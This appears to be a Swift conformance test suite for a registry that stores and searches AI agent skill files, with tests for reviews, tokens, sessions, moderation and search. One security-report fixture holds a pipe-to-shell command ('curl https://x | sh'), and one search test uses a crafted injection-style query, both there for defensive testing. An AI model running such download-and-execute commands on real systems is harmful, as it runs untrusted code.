internal import Foundation
internal import SkillscopeCore
public import SkillscopeStore
internal import Testing

/// Behaviour every ``Store`` engine must show; each engine's test target calls these with its engine.
public enum StoreConformance {
    static let seenAt = "2026-11-30T10:00:00Z"

    public static func writesAndReadsBack(_ store: any Store) throws {
        let record = Fixtures.record("acme/skills", "review/SKILL.md", Fixtures.reviewSkill)
        let summary = try store.write(
            repositories: [RepositoryRecord(fullName: "acme/skills", stars: 42, license: "MIT", topics: ["ai"])],
            files: [record], seenAt: seenAt)
        #expect(summary.written == 1 && summary.rulesWritten == 3)
        let file = try #require(try store.file(.key(FileKey(repository: "acme/skills", path: "review/SKILL.md"))))
        #expect(file.kind == .skill && file.status == .indexed)
        #expect(file.name == "code-review")
        #expect(file.repository.stars == 42 && file.repository.topics == ["ai"])
        #expect(file.firstSeen == seenAt && file.lastSeen == seenAt)
        #expect(file.text == Fixtures.reviewSkill)
        let byID = try #require(try store.file(.id(file.id)))
        #expect(byID.key == file.key)
        let rules = try store.rules(ofFile: file.id)
        #expect(
            rules.map(\.text) == [
                "Read the whole diff before commenting.", "Flag missing tests for new behaviour.",
                "Never approve a change that breaks the build.",
            ])
        #expect(rules.map(\.lines.start) == [9, 10, 11])
        #expect(rules[2].examples.first?.language == "bash")
        #expect(rules[0].section == ["Code review", "Rules"])
    }

    /// Named blobs replace whole, span parts, count generations; grouping reads each current file's rules.
    public static func blobsAndFileRules(_ store: any Store) throws {
        #expect(try store.blob("rule-statistics") == nil)
        #expect(try store.blobGeneration("rule-statistics") == 0)
        let large = (0..<(33 << 20)).map { UInt8(truncatingIfNeeded: $0 &* 31) }
        try store.saveBlob("rule-statistics", large)
        #expect(try store.blob("rule-statistics") == large)
        try store.saveBlob("rule-statistics", [1, 2, 3])
        #expect(try store.blob("rule-statistics") == [1, 2, 3])
        #expect(try store.blobGeneration("rule-statistics") == 2)
        try store.saveBlob("empty", [])
        #expect(try store.blob("empty") == [])
        #expect(try store.blobGeneration("other") == 0)

        let review = Fixtures.record("acme/skills", "review/SKILL.md", Fixtures.reviewSkill)
        let agents = Fixtures.record("acme/app", "AGENTS.md", Fixtures.agentsFile)
        _ = try store.write(
            repositories: [RepositoryRecord(fullName: "acme/skills"), RepositoryRecord(fullName: "acme/app")],
            files: [review, agents], seenAt: seenAt)
        let first = try store.fileRules(after: 0, limit: 1)
        #expect(first.count == 1)
        let rest = try store.fileRules(after: first[0].id, limit: 10)
        let all = first + rest
        #expect(all.count == 2 && Set(all.map(\.repositoryID)).count == 2)
        let reviewID = try #require(try store.file(.key(review.key))?.id)
        #expect(all.first { $0.id == reviewID }?.rules == (try store.rules(ofFile: reviewID)).map(\.text))
        try store.markRemoved(repository: "acme/app", present: [], at: seenAt)
        #expect(try store.fileRules(after: 0, limit: 10).map(\.id) == [reviewID])
    }

    /// The checks stored with a file (spec findings, security report) and the listing record it came from.
    public static func checksAndListingsAreKept(_ store: any Store) throws {
        var record = Fixtures.record("acme/skills", "review/SKILL.md", Fixtures.reviewSkill)
        let finding = SecurityReport.Finding(
            category: .pipeToShell, level: .fail, message: "pipes a download into a shell", line: 9,
            evidence: "curl https://x | sh")
        record.security = SecurityReport(findings: [finding])
        record.findings = [Finding(code: "client-extension", severity: .warning, message: "m", line: 3)]
        record.listingJSON = #"{"id":"x","unknown":{"kept":true}}"#
        _ = try store.write(repositories: [], files: [record], seenAt: seenAt)
        let file = try #require(try store.file(.key(record.key)))
        #expect(file.security == record.security)
        #expect(file.security.verdict == .fail)
        #expect(file.findings == record.findings)
        #expect(file.listingJSON == record.listingJSON)
        let plain = Fixtures.record("acme/skills", "AGENTS.md", Fixtures.agentsFile)
        _ = try store.write(repositories: [], files: [plain], seenAt: seenAt)
        let other = try #require(try store.file(.key(plain.key)))
        #expect(other.security.verdict == .pass && other.listingJSON == nil)
    }

    /// Tokens, one review per token per file version, the per-minute limit, and the counts.
    public static func reviewsReplaceAndAreLimited(_ store: any Store) throws {
        let record = Fixtures.record("acme/skills", "review/SKILL.md", Fixtures.reviewSkill)
        _ = try store.write(repositories: [], files: [record], seenAt: seenAt)
        let file = try #require(try store.file(.key(record.key)))
        let token = try store.createToken(name: "ci-agent", secretSHA256: "aa", at: seenAt)
        #expect(throws: StoreError.self) { try store.createToken(name: "ci-agent", secretSHA256: "bb", at: seenAt) }
        #expect(try store.token(secretSHA256: "aa")?.id == token)
        #expect(try store.token(secretSHA256: "zz") == nil)
        func review(_ outcome: ReviewOutcome, _ at: String, sha: String? = nil) -> ReviewRecord {
            ReviewRecord(
                fileID: file.id, fileSHA256: sha ?? file.sha256, tokenID: token, outcome: outcome, usedFor: "a PR",
                reviewer: "ci-agent", at: at)
        }
        guard
            case .created(let first) = try store.writeReview(review(.failed, "2026-11-30T10:00:00.000Z"), perMinute: 3)
        else { Issue.record("the first review was not created"); return }
        #expect(try store.writeReview(review(.worked, "2026-11-30T10:00:10.000Z"), perMinute: 3) == .replaced(first))
        // Another version of the file is reviewed apart.
        if case .created = try store.writeReview(
            review(.partly, "2026-11-30T10:00:20.000Z", sha: "other"), perMinute: 3)
        {
        } else {
            Issue.record("a review of another version did not create a review")
        }
        #expect(try store.writeReview(review(.worked, "2026-11-30T10:00:30.000Z"), perMinute: 3) == .rateLimited)
        // A minute after the first, the window has room again.
        #expect(try store.writeReview(review(.worked, "2026-11-30T10:01:00.500Z"), perMinute: 3) == .replaced(first))
        #expect(try store.reviewSummary(ofFile: file.id) == ReviewSummary(count: 2, worked: 1, partly: 1, failed: 0))
        let reviews = try store.reviews(ofFile: file.id)
        #expect(reviews.map(\.outcome) == [.worked, .partly])
        #expect(reviews.first?.usedFor == "a PR")
    }

    /// People signed in with GitHub: one account a login whatever its case, sessions that expire and end, a
    /// person's reviews one per file version, agent tokens made, named apart and revoked, reviews deleted only
    /// with the token that wrote them, and each review's author.
    public static func accountsSessionsAndAgentTokens(_ store: any Store) throws {
        let record = Fixtures.record("acme/skills", "review/SKILL.md", Fixtures.reviewSkill)
        _ = try store.write(repositories: [], files: [record], seenAt: seenAt)
        let file = try #require(try store.file(.key(record.key)))
        let lena = try store.account(login: "Lena", at: seenAt)
        let again = try store.account(login: "lena", at: "2026-12-01T00:00:00Z")
        #expect(again.id == lena.id && again.personTokenID == lena.personTokenID && again.login == "lena")
        let omar = try store.account(login: "omar", at: seenAt)
        #expect(omar.id != lena.id && omar.personTokenID != lena.personTokenID)
        // The person token has no secret that hashes to it.
        #expect(try store.token(secretSHA256: TokenRecord.personToken(accountID: lena.id)) == nil)

        try store.createSession(
            accountID: lena.id, secretSHA256: "s1", at: seenAt, expiresAt: "2026-12-30T00:00:00.000Z")
        try store.createSession(
            accountID: omar.id, secretSHA256: "s2", at: seenAt, expiresAt: "2026-12-01T00:00:00.000Z")
        #expect(try store.session(secretSHA256: "s1", at: "2026-12-02T00:00:00.000Z")?.login == "lena")
        #expect(try store.session(secretSHA256: "s2", at: "2026-12-02T00:00:00.000Z") == nil, "expired")
        #expect(try store.session(secretSHA256: "nope", at: "2026-12-02T00:00:00.000Z") == nil)
        try store.deleteSession(secretSHA256: "s1", at: "2026-12-02T00:00:00.000Z")
        #expect(try store.session(secretSHA256: "s1", at: "2026-12-02T00:00:00.000Z") == nil, "signed out")

        // A person's page reviews: one per file version, replaced by the next.
        func review(_ token: Int64, _ outcome: ReviewOutcome, _ at: String, reviewer: String) -> ReviewRecord {
            ReviewRecord(
                fileID: file.id, fileSHA256: file.sha256, tokenID: token, outcome: outcome, usedFor: "a refactor",
                reviewer: reviewer, at: at)
        }
        guard
            case .created(let mine) = try store.writeReview(
                review(lena.personTokenID, .partly, "2026-12-02T10:00:00.000Z", reviewer: "@lena"), perMinute: 10)
        else { Issue.record("the person's review was not created"); return }
        #expect(
            try store.writeReview(
                review(lena.personTokenID, .worked, "2026-12-02T10:00:01.000Z", reviewer: "@lena"), perMinute: 10)
                == .replaced(mine))

        // Agent tokens: named among the person's own, listed, used, revoked.
        let agent = try store.createAgentToken(
            accountID: lena.id, name: "claude", secretSHA256: "a1", at: "2026-12-02T10:00:02.000Z")
        #expect(throws: StoreError.self) {
            try store.createAgentToken(accountID: lena.id, name: "claude", secretSHA256: "a2", at: seenAt)
        }
        let omars = try store.createAgentToken(accountID: omar.id, name: "claude", secretSHA256: "a3", at: seenAt)
        let held = try #require(try store.token(secretSHA256: "a1"))
        #expect(held.id == agent && held.kind == .agent && held.accountLogin == "lena" && held.displayName == "claude")
        #expect(try store.agentTokens(ofAccount: lena.id).map(\.id) == [agent])
        guard
            case .created(let agents) = try store.writeReview(
                review(agent, .failed, "2026-12-02T10:00:03.000Z", reviewer: "claude"), perMinute: 10)
        else { Issue.record("the agent's review was not created"); return }
        let reviews = try store.reviews(ofFile: file.id)
        #expect(reviews.map(\.id) == [agents, mine])
        #expect(reviews.map(\.attribution) == ["claude, an agent of @lena", "@lena"])
        #expect(reviews.map(\.byAgent) == [true, false] && reviews.map(\.tokenID) == [agent, lena.personTokenID])

        #expect(try !store.revokeAgentToken(id: agent, accountID: omar.id, at: seenAt), "not omar's to revoke")
        #expect(try store.revokeAgentToken(id: agent, accountID: lena.id, at: "2026-12-02T11:00:00.000Z"))
        #expect(try store.token(secretSHA256: "a1") == nil && store.agentTokens(ofAccount: lena.id).isEmpty)
        #expect(try store.reviews(ofFile: file.id).count == 2, "a revoked token's reviews stay")
        // The name is free again.
        _ = try store.createAgentToken(accountID: lena.id, name: "claude", secretSHA256: "a4", at: seenAt)
        #expect(try store.agentTokens(ofAccount: omar.id).map(\.id) == [omars])

        // Only the token that wrote a review deletes it.
        #expect(try !store.deleteReview(id: mine, tokenID: omar.personTokenID))
        #expect(try store.deleteReview(id: mine, tokenID: lena.personTokenID))
        #expect(try store.reviews(ofFile: file.id).map(\.id) == [agents])
        // Exported and imported with the rest.
        let rows = try store.exportReviews()
        #expect(rows.accounts.map(\.login) == ["lena", "omar"])
        #expect(rows.tokens.filter { $0.kind == .agent }.count == 3)
        #expect(rows.tokens.filter { $0.revokedAt != nil }.count == 1)
    }

    /// Reports from distinct reporters hide a review until an operator looks; an operator hides and shows; hidden
    /// reviews are left out of a file's reviews and counts, and kept when the registry moves.
    public static func reportsHideAReviewUntilAnOperatorLooks(_ store: any Store) throws {
        let record = Fixtures.record("acme/skills", "review/SKILL.md", Fixtures.reviewSkill)
        _ = try store.write(repositories: [], files: [record], seenAt: seenAt)
        let file = try #require(try store.file(.key(record.key)))
        let token = try store.createToken(name: "ci-agent", secretSHA256: "aa", at: seenAt)
        guard
            case .created(let id) = try store.writeReview(
                ReviewRecord(
                    fileID: file.id, fileSHA256: file.sha256, tokenID: token, outcome: .worked, usedFor: "spam",
                    reviewer: "ci-agent", at: "2026-12-02T10:00:00.000Z"), perMinute: 10)
        else { Issue.record("no review"); return }
        #expect(try store.reportReview(id: id, reporter: "account:1", at: seenAt, hideAfter: 3) == .reported(1))
        #expect(try store.reportReview(id: id, reporter: "account:1", at: seenAt, hideAfter: 3) == .alreadyReported)
        #expect(try store.reportReview(id: id, reporter: "address:10.0.0.9", at: seenAt, hideAfter: 3) == .reported(2))
        #expect(try store.moderatedReviews(hiddenOnly: false, limit: 10).map(\.reports) == [2])
        #expect(try store.moderatedReviews(hiddenOnly: true, limit: 10).isEmpty)
        #expect(
            try store.reportReview(id: id, reporter: "account:2", at: "2026-12-03T00:00:00.000Z", hideAfter: 3)
                == .hidden)
        #expect(try store.reviews(ofFile: file.id).isEmpty && store.reviewSummary(ofFile: file.id).count == 0)
        #expect(try store.reportReview(id: id, reporter: "account:3", at: seenAt, hideAfter: 3) == .notFound)
        let hidden = try store.moderatedReviews(hiddenOnly: true, limit: 10)
        #expect(hidden.map(\.review.id) == [id] && hidden.first?.review.hiddenBy == "reports")
        #expect(hidden.first?.review.hiddenAt == "2026-12-03T00:00:00.000Z")
        // Moving the registry keeps the moderation.
        let rows = try store.exportReviews()
        #expect(rows.reports.count == 3 && rows.reviews.first?.review.hiddenBy == "reports")

        // The operator looks and shows it: it is back, and reports no longer hide it.
        #expect(try store.setReviewHidden(id: id, hidden: false, at: "2026-12-04T00:00:00.000Z"))
        #expect(try store.reviews(ofFile: file.id).map(\.id) == [id])
        #expect(try store.reportReview(id: id, reporter: "account:4", at: seenAt, hideAfter: 3) == .reported(4))
        #expect(try store.reviews(ofFile: file.id).map(\.id) == [id])
        // The operator hides it.
        #expect(try store.setReviewHidden(id: id, hidden: true, at: "2026-12-05T00:00:00.000Z"))
        #expect(try store.reviews(ofFile: file.id).isEmpty)
        #expect(try store.moderatedReviews(hiddenOnly: true, limit: 10).first?.review.hiddenBy == "operator")
        #expect(try !store.setReviewHidden(id: 999_999, hidden: true, at: seenAt))
        // Its author deletes it: its reports go with it.
        #expect(try store.deleteReview(id: id, tokenID: token))
        #expect(try store.exportReviews().reports.isEmpty)
    }

    /// Search filters (topic, licence, reviewed), sorts and facet counts over every match.
    public static func searchFiltersSortsAndCountsFacets(_ store: any Store) throws {
        let skill = { (name: String) in
            "---\nname: \(name)\ndescription: Review code.\n---\n# Review\n\n- Always review the diff first.\n"
        }
        _ = try store.write(
            repositories: [
                RepositoryRecord(fullName: "big/one", stars: 900, license: "MIT", topics: ["agent-skills", "swift"]),
                RepositoryRecord(fullName: "small/two", stars: 5, license: "Apache-2.0", topics: ["agent-skills"]),
                RepositoryRecord(fullName: "mid/three", stars: 50, license: "MIT", topics: []),
            ],
            files: [
                Fixtures.record("small/two", "a/SKILL.md", skill("a")),
                Fixtures.record("big/one", "b/SKILL.md", skill("b")),
                Fixtures.record("mid/three", "AGENTS.md", "# Review\n\n- Always review the diff first.\n"),
            ], seenAt: seenAt)
        let all = try store.search(SearchQuery(text: "review diff"))
        #expect(all.total == 3)
        #expect(all.facets.kinds == ["skill": 2, "agents": 1])
        #expect(all.facets.licenses == ["MIT": 2, "Apache-2.0": 1])
        #expect(all.facets.topics == ["agent-skills": 2, "swift": 1])
        let byStars = try store.search(SearchQuery(text: "review diff", sort: .stars))
        #expect(byStars.hits.map(\.key.repository) == ["big/one", "mid/three", "small/two"])
        let mit = try store.search(SearchQuery(text: "review diff", license: "MIT"))
        #expect(Set(mit.hits.map(\.key.repository)) == ["big/one", "mid/three"])
        let topic = try store.search(SearchQuery(text: "review diff", topic: "agent-skills"))
        #expect(
            Set(topic.hits.map(\.key.repository)) == ["big/one", "small/two"] && topic.facets.kinds == ["skill": 2])
        #expect(try store.search(SearchQuery(text: "review diff", hasReviews: true)).total == 0)
        // Every hit says which text it is and when it last changed: copies fold by the one, pages date by the other.
        for hit in all.hits {
            #expect(hit.sha256 == (try store.file(.id(hit.id)))?.sha256 && hit.changedAt?.hasPrefix("2026-") == true)
        }
        // No words: the filters' files are browsed, most-starred first, counted and faceted as a search is.
        let skills = try store.search(SearchQuery(text: "", kinds: [.skill]))
        #expect(skills.total == 2 && skills.hits.map(\.key.repository) == ["big/one", "small/two"])
        #expect(skills.facets.kinds == ["skill": 2] && skills.hits.allSatisfy { $0.sha256 != nil })
        #expect(skills.hits.first?.snippet == "Review code.")
        let licensed = try store.search(SearchQuery(text: "  ", limit: 1, offset: 1, license: "MIT"))
        #expect(licensed.total == 2 && licensed.hits.map(\.key.repository) == ["mid/three"])
        let file = try #require(try store.file(.key(FileKey(repository: "mid/three", path: "AGENTS.md"))))
        let token = try store.createToken(name: "t", secretSHA256: "cc", at: seenAt)
        _ = try store.writeReview(
            ReviewRecord(
                fileID: file.id, fileSHA256: file.sha256, tokenID: token, outcome: .worked, usedFor: "", reviewer: "t",
                at: "2026-11-30T10:00:00.000Z"), perMinute: 60)
        #expect(try store.search(SearchQuery(text: "review diff", hasReviews: true)).hits.map(\.id) == [file.id])
    }

    /// Search hits carry the registry's summaries and review counts, and sort by versions or quality among the best
    /// matches; a summary worked out for a text the file no longer holds is not shown.
    public static func summarizedSearchCarriesSummariesAndSortsByThem(_ store: any Store) throws {
        let skill = { (name: String, extra: String) in
            "---\nname: \(name)\ndescription: Review code.\n---\n# Review\n\n- Always review the diff first.\n\(extra)"
        }
        _ = try store.write(
            repositories: [
                RepositoryRecord(fullName: "big/one", stars: 900), RepositoryRecord(fullName: "small/two", stars: 5),
                RepositoryRecord(fullName: "mid/three", stars: 50),
            ],
            files: [
                Fixtures.record("big/one", "a/SKILL.md", skill("a", "")),
                Fixtures.record("small/two", "b/SKILL.md", skill("b", "- Keep reviews short.\n")),
                Fixtures.record("mid/three", "c/SKILL.md", skill("c", "- Name the line.\n")),
            ], seenAt: seenAt)
        let plain = try store.summarizedSearch(SearchQuery(text: "review diff"))
        #expect(plain.hits.count == 3 && plain.hits.allSatisfy { $0.summary == nil && $0.reviews == 0 })
        #expect(plain.hits.allSatisfy { $0.summaryFacts.isEmpty })
        let file = { (repository: String) in
            try #require(
                try store.file(
                    .key(
                        FileKey(
                            repository: repository,
                            path: repository == "big/one"
                                ? "a/SKILL.md" : repository == "small/two" ? "b/SKILL.md" : "c/SKILL.md"))))
        }
        let (one, two, three) = (try file("big/one"), try file("small/two"), try file("mid/three"))
        var summaries = FileSummaries()
        summaries.add(
            FileSummary(versions: 1, copies: 1, edited: 0, own: 0, isOrigin: false, quality: 0.9), file: one.id,
            sha256: one.sha256)
        summaries.add(
            FileSummary(versions: 12, copies: 2, edited: 9, own: 1, isOrigin: true, quality: 0.4), file: two.id,
            sha256: two.sha256)
        // Worked out for another text: not shown, sorted last.
        summaries.add(
            FileSummary(versions: 40, copies: 0, edited: 40, own: 0, isOrigin: true, quality: 1), file: three.id,
            sha256: String(repeating: "0", count: 64))
        #expect(FileSummaries(decoding: summaries.encoded())?.summary(of: two.id, sha256: two.sha256)?.edited == 9)
        try store.saveBlob(FileSummaries.blobName, summaries.encoded())
        let token = try store.createToken(name: "t", secretSHA256: "dd", at: seenAt)
        _ = try store.writeReview(
            ReviewRecord(
                fileID: one.id, fileSHA256: one.sha256, tokenID: token, outcome: .worked, usedFor: "", reviewer: "t",
                at: "2026-11-30T10:00:00.000Z"), perMinute: 60)
        let byVersions = try store.summarizedSearch(SearchQuery(text: "review diff", sort: .versions))
        #expect(byVersions.total == 3)
        #expect(byVersions.hits.map(\.key.repository) == ["small/two", "big/one", "mid/three"])
        #expect(byVersions.hits.first?.summaryFacts == ["used by 12 other projects", "likely origin", "quality 0.40"])
        #expect(byVersions.hits[1].reviews == 1 && byVersions.hits[1].summaryFacts.last == "1 review")
        #expect(byVersions.hits[2].summary == nil)
        let byQuality = try store.summarizedSearch(
            SearchQuery(text: "review diff", limit: 1, offset: 1, sort: .quality))
        #expect(byQuality.hits.map(\.key.repository) == ["small/two"])
        // Saved again: read again, not the first copy.
        summaries.add(
            FileSummary(versions: 99, copies: 0, edited: 99, own: 0, isOrigin: false, quality: 0.1), file: one.id,
            sha256: one.sha256)
        try store.saveBlob(FileSummaries.blobName, summaries.encoded())
        let again = try store.summarizedSearch(SearchQuery(text: "review diff", sort: .versions))
        #expect(again.hits.first?.key.repository == "big/one" && again.hits.first?.summary?.versions == 99)
    }

    /// Writes the review and commit skills of acme/skills and lena/app's AGENTS.md (`agents`).
    static func writeTheThreeFixtures(_ store: any Store, agents: String = Fixtures.agentsFile) throws {
        _ = try store.write(
            repositories: [],
            files: [
                Fixtures.record("acme/skills", "review/SKILL.md", Fixtures.reviewSkill),
                Fixtures.record("acme/skills", "commit/SKILL.md", Fixtures.commitSkill),
                Fixtures.record("lena/app", "AGENTS.md", agents),
            ], seenAt: seenAt)
    }

    /// The rules of many files in one read are each file's, as one file's read gives them.
    public static func rulesOfManyFilesAreEachFilesOwn(_ store: any Store) throws {
        try writeTheThreeFixtures(store)
        let ids = try store.fileKeys().map(\.id)
        let many = try store.rules(ofFiles: ids + [999_999])
        #expect(many.count == 3 && many[999_999] == nil)
        for id in ids { #expect(many[id] == (try store.rules(ofFile: id)), "file \(id)") }
        #expect(try store.rules(ofFiles: []).isEmpty)
    }

    public static func rewritingUnchangedFilesWritesNothing(_ store: any Store) throws {
        let record = Fixtures.record("acme/skills", "review/SKILL.md", Fixtures.reviewSkill)
        _ = try store.write(repositories: [], files: [record], seenAt: seenAt)
        let again = try store.write(repositories: [], files: [record], seenAt: "2026-12-01T00:00:00Z")
        #expect(again.written == 0 && again.unchanged == 1 && again.rulesWritten == 0)
        let file = try #require(try store.file(.key(record.key)))
        #expect(file.firstSeen == seenAt && file.lastSeen == "2026-12-01T00:00:00Z")
        #expect(try store.stats().rules == 3)
    }

    /// A file seen again with the same text gets the new time as its `lastSeen`, in every read (the file, search's
    /// "recent" order, an export), without its row being written; writing the row again makes the row's time the
    /// one that counts, even an earlier one.
    public static func aFileSeenAgainKeepsItsRowButNotItsTime(_ store: any Store) throws {
        var first = Fixtures.record("acme/skills", "review/SKILL.md", Fixtures.reviewSkill)
        var second = Fixtures.record(
            "acme/skills", "commit/SKILL.md", "# Commits\n\n- Ask for a review of every commit.\n")
        first.lastCommitAt = nil
        second.lastCommitAt = nil
        first.blobSHA = "blob-1"
        _ = try store.write(repositories: [], files: [first, second], seenAt: seenAt)
        func lastSeen(_ record: FileRecord) throws -> String? { try store.file(.key(record.key))?.lastSeen }
        func recentFirst() throws -> [String] {
            try store.search(SearchQuery(text: "review", sort: .recent)).hits.map(\.key.path)
        }

        try store.markSeen([second.key], at: "2026-12-01T00:00:00Z")
        #expect(try lastSeen(second) == "2026-12-01T00:00:00Z" && lastSeen(first) == seenAt)
        #expect(try recentFirst() == ["commit/SKILL.md", "review/SKILL.md"])

        // Through a write of the same text: the time moves, the blob id too when a new one is given.
        first.blobSHA = "blob-2"
        let summary = try store.write(repositories: [], files: [first], seenAt: "2026-12-02T00:00:00Z")
        #expect(summary.unchanged == 1 && summary.written == 0)
        var stored = try #require(try store.file(.key(first.key)))
        #expect(stored.lastSeen == "2026-12-02T00:00:00Z" && stored.blobSHA == "blob-2")
        #expect(try recentFirst() == ["review/SKILL.md", "commit/SKILL.md"])
        first.blobSHA = nil
        _ = try store.write(repositories: [], files: [first], seenAt: "2026-12-03T00:00:00Z")
        stored = try #require(try store.file(.key(first.key)))
        #expect(stored.lastSeen == "2026-12-03T00:00:00Z" && stored.blobSHA == "blob-2")
        let exported = try store.exportFiles(after: 0, limit: 10)
        #expect(exported.map(\.lastSeen) == ["2026-12-03T00:00:00Z", "2026-12-01T00:00:00Z"])

        // A new text rewrites the row, whose time counts again, even when it is older than the last sighting.
        let edited = Fixtures.record(
            "acme/skills", "review/SKILL.md", Fixtures.reviewSkill + "\n- Read the tests first.\n")
        #expect(try store.write(repositories: [], files: [edited], seenAt: "2026-12-01T12:00:00Z").written == 1)
        #expect(try lastSeen(edited) == "2026-12-01T12:00:00Z")
        try store.markSeen([edited.key], at: "2026-12-04T00:00:00Z")
        #expect(try lastSeen(edited) == "2026-12-04T00:00:00Z")
    }

    public static func changedFileReplacesRulesAndSearchText(_ store: any Store) throws {
        let key = ("acme/skills", "review/SKILL.md")
        _ = try store.write(
            repositories: [], files: [Fixtures.record(key.0, key.1, Fixtures.reviewSkill)], seenAt: seenAt)
        #expect(try store.search(SearchQuery(text: "approve")).total == 1)
        let edited = Fixtures.reviewSkill.replacingOccurrences(
            of: "- Never approve a change that breaks the build.", with: "- Ask for a second reviewer on migrations.")
        let summary = try store.write(repositories: [], files: [Fixtures.record(key.0, key.1, edited)], seenAt: seenAt)
        #expect(summary.written == 1)
        #expect(try store.search(SearchQuery(text: "approve")).total == 0)
        #expect(try store.search(SearchQuery(text: "reviewer migrations")).total == 1)
        let file = try #require(try store.file(.key(FileKey(repository: key.0, path: key.1))))
        #expect(try store.rules(ofFile: file.id).map(\.text).contains("Ask for a second reviewer on migrations."))
        #expect(try store.stats().rules == 3)
        #expect(try store.stats().files == 1)
    }

    public static func searchRanksNameMatchesFirstAndFiltersByKind(_ store: any Store) throws {
        try writeTheThreeFixtures(store, agents: Fixtures.agentsFile + "\nA commit needs a clear subject.\n")
        let results = try store.search(SearchQuery(text: "commit"))
        #expect(results.total == 2)
        #expect(results.hits.first?.key.path == "commit/SKILL.md")
        let agentsOnly = try store.search(SearchQuery(text: "commit", kinds: [.agents]))
        #expect(agentsOnly.hits.map(\.key.path) == ["AGENTS.md"])
        let stemmed = try store.search(SearchQuery(text: "reviewing"))
        #expect(stemmed.hits.map(\.key.path) == ["review/SKILL.md"])
        let fallback = try store.search(SearchQuery(text: "diff zebra"))
        #expect(!fallback.matchedAllTerms && fallback.total == 1)
        let hostile = try store.search(SearchQuery(text: "\"review* OR NEAR(( -- ;"))
        #expect(hostile.total >= 1)
        #expect(throws: StoreError.self) { try store.search(SearchQuery(text: "  ++ ")) }
    }

    /// A query that is a skill's name (front matter or folder, however it is written) puts the skills of that name
    /// first, the earliest (then the most starred) on top, above files that only say its words more often.
    public static func aSkillsNameFindsItsCopiesFirst(_ store: any Store) throws {
        func record(_ repository: String, _ path: String, _ text: String, first: String) -> FileRecord {
            var record = Fixtures.record(repository, path, text)
            record.firstCommitAt = first
            return record
        }
        let creator =
            "---\nname: skill-creator\ndescription: Guide for making skills. Use when writing one.\n---\n"
            + "# Making skills\n\n- Start from the task the skill serves.\n"
        let noisy =
            "---\nname: writing-helper\ndescription: Skill creator notes for every skill creator.\n---\n"
            + "# Skill creator notes\n\n" + (0..<20).map { "- A skill creator keeps skill \($0) short.\n" }.joined()
        _ = try store.write(
            repositories: [
                RepositoryRecord(fullName: "upstream/skills", stars: 900),
                RepositoryRecord(fullName: "fork/skills", stars: 2),
                RepositoryRecord(fullName: "noise/notes", stars: 5000),
                RepositoryRecord(fullName: "vercel/agent", stars: 10),
            ],
            files: [
                record("noise/notes", "writing/SKILL.md", noisy, first: "2025-01-01T00:00:00Z"),
                record("fork/skills", "skills/skill-creator/SKILL.md", creator, first: "2025-10-01T00:00:00Z"),
                record("upstream/skills", "skills/skill-creator/SKILL.md", creator, first: "2025-10-01T00:00:00Z"),
                record(
                    "vercel/agent", "skills/react-best-practices/SKILL.md",
                    "---\nname: vercel-react-best-practices\ndescription: React performance rules.\n---\n- Memoise.\n",
                    first: "2026-01-01T00:00:00Z"),
                record(
                    "noise/notes", "react/SKILL.md",
                    "---\nname: react-notes\ndescription: React best practices, best practices for React.\n---\n"
                        + "- React best practices: keep components small.\n", first: "2025-01-01T00:00:00Z"),
            ], seenAt: seenAt)
        for text in ["skill creator", "Skill-Creator", "skill_creator"] {
            let results = try store.search(SearchQuery(text: text))
            #expect(
                results.hits.prefix(2).map(\.key.repository) == ["upstream/skills", "fork/skills"], "\(text)")
            #expect(results.hits.count == 3 && results.total == 3, "\(text)")
        }
        let second = try store.search(SearchQuery(text: "skill creator", limit: 1, offset: 1))
        #expect(second.hits.map(\.key.repository) == ["fork/skills"])
        let third = try store.search(SearchQuery(text: "skill creator", limit: 2, offset: 2))
        #expect(third.hits.map(\.key.repository) == ["noise/notes"])
        let folder = try store.search(SearchQuery(text: "react-best-practices"))
        #expect(folder.hits.first?.key.path == "skills/react-best-practices/SKILL.md")
        let agentsOnly = try store.search(SearchQuery(text: "skill creator", kinds: [.agents]))
        #expect(agentsOnly.hits.isEmpty)
    }

    /// Past ``SearchResults/exactCountLimit`` matches the total is an estimate, said to be one, near the true count;
    /// below it every count is exact.
    public static func aSearchWithManyMatchesEstimatesItsTotalAndSaysSo(_ store: any Store) throws {
        let common = 1_400
        var records: [FileRecord] = []
        for index in 0..<(common + 200) {
            let words = index < common ? "widget" : "gadget"
            let rare = index % 300 == 0 ? " zanzibar" : ""
            records.append(
                Fixtures.record(
                    "acme/repo\(index % 40)", "skills/s\(index)/AGENTS.md",
                    "# Notes \(index)\n\n- Keep each \(words) small.\(rare)\n"))
        }
        for start in stride(from: 0, to: records.count, by: 200) {
            _ = try store.write(
                repositories: [], files: Array(records[start..<min(records.count, start + 200)]), seenAt: seenAt)
        }
        let many = try store.search(SearchQuery(text: "widget"))
        #expect(many.totalIsEstimate)
        #expect(many.total > SearchResults.exactCountLimit && many.total <= 2 * common, "total \(many.total)")
        #expect(many.totalText.hasPrefix("about "))
        #expect(many.hits.count == 20)
        let few = try store.search(SearchQuery(text: "zanzibar"))
        #expect(!few.totalIsEstimate)
        #expect(few.total == 6)
        #expect(few.facets.kinds["agents"] == 6)
        #expect(few.totalText == "6")
        #expect(SearchResults.rounded(57_640) == 58_000 && SearchResults.rounded(1_049) == 1_000)
    }

    /// Browsing by kind alone counts exactly past the count limit, as the home page counts the kinds, however the
    /// kind's files lie in the rows (here all skills first, where an estimate from the rows would say twice as many).
    public static func browsingByKindCountsAsTheHomePageDoes(_ store: any Store) throws {
        let skills = 1_100
        var records: [FileRecord] = []
        for index in 0..<skills {
            records.append(
                Fixtures.record(
                    "acme/repo\(index % 30)", "skills/s\(index)/SKILL.md",
                    "---\nname: s\(index)\ndescription: Skill \(index).\n---\n\n- Keep part \(index) small.\n"))
        }
        for index in 0..<1_300 {
            records.append(
                Fixtures.record("lena/app\(index % 30)", "p\(index)/AGENTS.md", "- Rule \(index) of the app.\n"))
        }
        for start in stride(from: 0, to: records.count, by: 300) {
            _ = try store.write(
                repositories: [], files: Array(records[start..<min(records.count, start + 300)]), seenAt: seenAt)
        }
        let browse = try store.search(SearchQuery(text: "", kinds: [.skill]))
        #expect(!browse.totalIsEstimate)
        #expect(browse.total == skills)
        #expect(browse.total == (try store.stats().byKind["skill"]))
        #expect(browse.facets.kinds == ["skill": skills])
        #expect(browse.hits.count == 20)
        let last = try store.search(SearchQuery(text: "", kinds: [.skill], limit: 20, offset: skills - 5))
        #expect(last.hits.count == 5)
    }

    public static func rejectedFilesAreKeptWithTheirReason(_ store: any Store) throws {
        var record = Fixtures.record("acme/skills", "bin/AGENTS.md", "x")
        record.outcome = .rejected(
